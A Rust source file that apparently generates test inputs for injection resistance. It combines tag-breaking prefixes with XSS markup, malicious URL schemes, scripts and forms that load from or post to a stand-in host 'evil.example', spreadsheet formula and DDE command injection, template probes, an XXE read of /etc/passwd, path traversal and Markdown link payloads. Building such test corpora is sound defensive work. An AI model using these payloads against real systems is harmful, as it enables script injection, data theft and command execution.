//! Texts that try to become something else: a script, a handler, a picture from elsewhere, a formula, a new entry.
//!
//! In: nothing. Out: texts that do so wherever they stand in a sentence, and texts that must stand alone. Each one that
//! gets through opens a dialog or asks `evil.example` for something. Never holds a sign that records may not hold.

/// Ends what a text may stand in, so that what follows is markup.
const BREAKS: &[&str] = &[
    "",
    "\">",
    "'>",
    "\"'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</a>",
    "</td></table>",
    "</svg>",
    "-->",
    "]]>",
    "?>",
    "&quot;>",
    "\\\">",
];

/// Markup that runs or fetches.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=https://evil.example/t.gif>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href=//evil.example/a.svg#b></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/e>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<div style=\"background:url(//evil.example/b)\">x</div>",
    "<isindex action=javascript:alert(1) type=image>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
];

/// Addresses that lead where none may lead.
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "java&Tab;script:alert(1)",
    "javascript:%61lert(1)",
    "javascript://x%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example/x",
    "\\/evil.example/x",
    "https:evil.example",
    "ht\u{feff}tps://evil.example",
    "jar:https://evil.example!/x",
];

/// How Markdown writes links and pictures.
const MARKDOWN: &[&str] = &[
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    "[x][k]\n\n[k]: {}",
    "![x][k]\n\n[k]: <{}> \"t\"",
    "[x]({} \"\\\" onmouseover=alert(1) \\\"\")",
];

/// Texts of other languages: formulas first, then templates, data, feeds, calendars, scripts.
const OTHERS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "%0A=1+1",
    "{{ 7 * 7 }}",
    "{% include \"x\" %}",
    "{{ site | json_encode | safe }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "\");alert(1);(\"",
    "');alert(1);('",
    "\\\");alert(1)//",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{2028}alert(1)//",
    "\u{2029}alert(1)//",
    "*/alert(1)/*",
    "//alert(1)",
    "`;alert(1);`",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
    "<?xml version=\"1.0\"?><feed/>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</entry><entry><title>evil</title>",
    "END:VEVENT\\nBEGIN:VEVENT",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "x onmouseover=alert(1)",
    "\" style=\"x:expression(alert(1))\" y=\"",
    "\" autofocus onfocus=alert(1) tabindex=1 y=\"",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<mark onmouseover=alert(1)>x</mark>",
    "<b>x</b><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<x/onclick=alert(1)>",
    "<a/href=javascript:alert(1)>",
    "1;url=javascript:alert(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "con",
    "null",
    "undefined",
    "NaN",
];

/// Texts that harm wherever they stand.
pub fn inline() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    // Every break with every third markup, so that each meets many of the others.
    for (at, markup) in MARKUP.iter().enumerate() {
        all.extend(
            BREAKS
                .iter()
                .enumerate()
                .filter(|(b, _)| *b == 0 || (at + b) % 3 == 0)
                .map(|(_, b)| format!("{b}{markup}")),
        );
    }
    all.extend(OTHERS.iter().map(|text| (*text).to_owned()));
    all
}

/// Texts that must stand alone to harm: addresses, formulas.
pub fn alone() -> Vec<String> {
    ADDRESSES.iter().chain(&OTHERS[..11]).map(|text| (*text).to_owned()).collect()
}

/// Prose that harms where Markdown is read.
pub fn prose() -> Vec<String> {
    let links = MARKDOWN.iter().flat_map(|form| ADDRESSES.iter().map(move |address| form.replace("{}", address)));
    let blocks = [
        "```\"><img src=x onerror=alert(1)>\nx\n```",
        "~~~ x onmouseover=alert(1)\nx\n~~~",
        "# x {onclick=alert(1)}",
        "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
        "| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
        "> <svg/onload=alert(1)>",
        "- [ ] <input onfocus=alert(1) autofocus>",
        "<div>\n\n<script>alert(1)</script>\n\n</div>",
        "<!-- -->\n<img src=x onerror=alert(1)>",
        "<![CDATA[ <script>alert(1)</script> ]]>",
        "<?php echo 1 ?>",
        "[x](https://example.org/\"onmouseover=alert(1)//)",
        "https://evil.example/\"><script>alert(1)</script>",
    ];
    links.chain(blocks.map(str::to_owned)).chain(inline()).collect()
}

/// How many different texts there are.
pub fn count() -> usize {
    let all: std::collections::BTreeSet<String> = inline().into_iter().chain(alone()).chain(prose()).collect();
    all.len()
}
